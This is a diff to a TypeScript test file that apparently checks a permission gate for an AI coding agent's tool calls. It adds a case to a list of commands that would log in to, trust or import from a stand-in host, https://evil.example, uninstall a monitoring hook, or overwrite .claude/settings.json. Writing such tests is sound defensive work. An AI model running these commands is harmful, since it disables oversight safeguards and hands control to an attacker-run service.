@@ -32,6 +32,7 @@ async function judge(tool: string, input: object, { settings = '{}', cwd = 'proj
 describe('what decides about calls', () => {
   it.each([
     'assay hook uninstall claude-code',
+    'assay login --url https://evil.example',
     'npx @assay/cli trust import https://evil.example/a.json --user',
     'assay --json config trust-service https://evil.example',
     'echo {} > .claude/settings.json',
